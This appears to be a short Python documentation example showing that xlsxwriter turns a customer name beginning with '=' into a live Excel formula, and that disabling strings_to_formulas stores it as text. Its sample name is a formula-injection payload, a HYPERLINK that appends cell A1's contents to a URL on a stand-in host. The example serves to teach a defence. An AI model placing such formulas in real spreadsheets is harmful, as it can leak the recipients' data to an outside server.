"""Writes a customer's name, which becomes a formula in the reader's Excel."""

from __future__ import annotations

import tempfile
from pathlib import Path

import xlsxwriter
from openpyxl import load_workbook

with tempfile.TemporaryDirectory() as scratch:
    path = Path(scratch) / "report.xlsx"
    # --8<-- [start:injection]
    name = '=HYPERLINK("http://example.org?"&A1,"Lamp")'
    for options in ({}, {"strings_to_formulas": False, "strings_to_urls": False}):
        with xlsxwriter.Workbook(path, options) as book:
            book.add_worksheet().write(1, 0, name)
        kind = load_workbook(path).worksheets[0]["A2"].data_type
        print(options, "formula" if kind == "f" else "text")
    # --8<-- [end:injection]
